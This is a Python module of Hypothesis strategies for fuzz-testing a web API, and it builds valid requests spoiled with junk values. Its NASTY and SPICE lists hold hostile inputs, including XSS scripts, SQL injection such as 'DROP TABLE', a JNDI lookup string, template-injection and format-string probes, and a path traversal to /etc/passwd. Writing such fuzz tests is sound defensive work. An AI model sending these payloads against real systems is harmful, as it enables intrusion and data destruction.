"""Hypothesis strategies shared by the fuzz tests (tests/web/test_fuzz_api.py, tests/unit/test_transfer_fuzz.py).

Values come in two kinds: junk (anything at all, huge, malformed, hostile), and good values,
``spiced`` now and then with something hostile, so that they get past the first checks and
reach storage, templates and logs. :func:`mutated` builds requests and rows from good values
with a few keys spoiled, which is what finds bugs behind the first check.
"""

from __future__ import annotations

import operator as op
from typing import Any

from hypothesis import strategies as st

NASTY = [
    "",
    " ",
    "\u3000\u3000",
    "\x00",
    "a\x00b",
    "\r\n\r\n",
    "\x1b[31m红\x1b[0m",
    "\x7f\x08\x0b\x0c",
    "\u202e\u200b\ufeff\u2028\u2029",
    "\ud800",
    "\udfff",
    "a\ud83dz",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{7*7}}{% raw %}",
    "' OR '1'='1",
    "'; DROP TABLE entries; --",
    "1; UPDATE meta SET value='0' WHERE name='kb_version'",
    '" OR ""="',
    "%s%s%s%n",
    "${jndi:ldap://x/a}",
    "../../../../etc/passwd",
    "NaN",
    "-1",
    "9" * 40,
    "1e999",
    "null",
    "web-1\n",
    "/feedback_useful\n",
    "社保" * 1200,
    "深圳市",
    "广东省深圳市南山区",
    "火星市",
    "/feedback_useful",
    '/choose_entry{"key":"T-SB-1"}',
    "T-GJJ-SZ",
    "GD20261126000001",
    "13812345678",
    "+86 138 1234 5678",
    "020-12345678",
    "440301199001011234",
    "🙂" * 300,
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǒ̹",
]
BIG_INTS = [-1, 0, 1, 2**31, 2**63 - 1, 2**63, 2**64, -(2**63) - 1, 10**40]
characters = st.characters() | st.characters(categories=["Cs"]) | st.characters(max_codepoint=0x20)
texts = st.text(characters, max_size=40)
huge_texts = st.builds(op.mul, st.text(characters, min_size=1, max_size=3), st.integers(300, 25_000))
strings = st.one_of(st.sampled_from(NASTY), texts, texts, huge_texts)
# Put next to good values, these get past the first checks and reach storage, templates and logs.
SPICE = ["\ud800", "\udc00x", "\x00", "\x1b[2J", "\u202e", "\n", "\r\n", "\t", "\x85", "\u2028", "\\", '"',
         "<script>alert(1)</script>", "' OR '1'='1", "'; DROP TABLE entries; --", "%s%n", "{{7*7}}", "🙂"]  # fmt: skip


def _season(value: str, spice: str, front: bool) -> str:
    return spice + value if front else value + spice


def spiced(good: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Good values, and (a third of the time) good values with something hostile before or after them."""
    hostile = st.builds(_season, good, st.sampled_from(SPICE), st.booleans())
    return st.one_of(good, good, hostile)


scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from(BIG_INTS)
    | st.floats()  # NaN and infinities too: Python's json reads them
    | strings
)
json_values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4), max_leaves=8
)


chinese = st.text(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), min_size=1, max_size=30)


MISSING = object()
"""In a mutation: leave the key out."""


def _mutate(base: dict[str, Any], changes: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
    mutated = {**extra, **base}
    for key, value in changes.items():
        if value is MISSING:
            mutated.pop(key, None)
        else:
            mutated[key] = value
    return mutated


def mutated(valid: dict[str, st.SearchStrategy[Any]], junk: st.SearchStrategy[Any]) -> st.SearchStrategy[dict]:
    """A request that passes the endpoint's checks with up to three keys spoiled, left out or added.

    Starting from a good request makes the one bad value the thing under test (a request with
    every value random is refused by the first check, and the others are never reached).
    """
    return st.builds(
        _mutate,
        st.fixed_dictionaries(valid),
        st.dictionaries(st.sampled_from(sorted(valid)), st.just(MISSING) | junk, max_size=3),
        st.dictionaries(texts, junk, max_size=2) | st.just({}),
    )
